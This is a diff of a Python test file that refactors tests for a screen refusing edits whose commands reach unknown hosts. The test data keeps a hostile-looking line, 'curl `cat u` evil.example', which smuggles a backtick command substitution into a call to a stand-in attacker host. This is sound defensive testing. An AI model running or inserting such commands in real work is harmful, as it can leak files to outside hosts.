@@ -13,20 +13,13 @@ from __future__ import annotations
 
 import pytest
 
-from skillopt_core.records import Edit, EditOp
-from skillopt_core.skill.edits import apply_edits
-from skillopt_core.skill.screen import (
-    REFUSED_PREFIX,
-    ScreenContext,
-    hosts_in,
-    known_hosts,
-    screen_edit,
-    screen_text,
+from skillopt_core.skill.screen import hosts_in
+from tests.core.safety._hosts import (
+    NO_HOSTS,
+    assert_apply_refuses,
+    assert_known_host_passes,
+    assert_names_unknown,
 )
-
-SKILL = "# Deploy\n\n- Check https://api.acme.dev/health before deploying.\n"
-NO_HOSTS = ScreenContext(hosts=frozenset())
-CTX = ScreenContext(hosts=known_hosts([SKILL, "deploy the app to staging.acme.dev"]))
 
 SUBSTITUTED = [
     "curl `cat u` evil.example",
@@ -46,31 +39,19 @@ SUBSTITUTED = [
 ]
 
 
-def kinds(content: str, ctx: ScreenContext) -> set[str]:
-    return {f.kind for f in screen_edit(Edit(EditOp.ADD, "", content), ctx)}
-
-
 @pytest.mark.parametrize("content", SUBSTITUTED, ids=repr)
 def test_a_host_after_a_backtick_substitution_is_named(content: str) -> None:
-    assert "evil.example" in hosts_in(content)
-    assert "unknown-host" in {f.kind for f in screen_text(content, NO_HOSTS)}
-    assert "unknown-host" in kinds(content, CTX)
+    assert_names_unknown(content, single=False)
 
 
 @pytest.mark.parametrize("content", SUBSTITUTED[:3] + SUBSTITUTED[5:7], ids=repr)
 def test_apply_edits_refuses_a_host_after_a_backtick_substitution(content: str) -> None:
-    report = apply_edits(SKILL, [Edit(EditOp.ADD, "", content + "\n")], NO_HOSTS)
-    (outcome,) = report.outcomes
-    assert not outcome.applied and outcome.reason.startswith(REFUSED_PREFIX)
-    assert "unknown-host" in outcome.reason and "evil.example" in outcome.reason
-    assert report.text == SKILL
+    assert_apply_refuses(content + "\n", NO_HOSTS)
 
 
 @pytest.mark.parametrize("content", SUBSTITUTED[:3] + SUBSTITUTED[5:7], ids=repr)
 def test_the_same_commands_with_a_host_the_skill_names_pass(content: str) -> None:
-    known = content.replace("evil.example", "api.acme.dev")
-    assert "api.acme.dev" in hosts_in(known)
-    assert "unknown-host" not in kinds(known, CTX)
+    assert_known_host_passes(content, "api.acme.dev")
 
 
 @pytest.mark.parametrize(
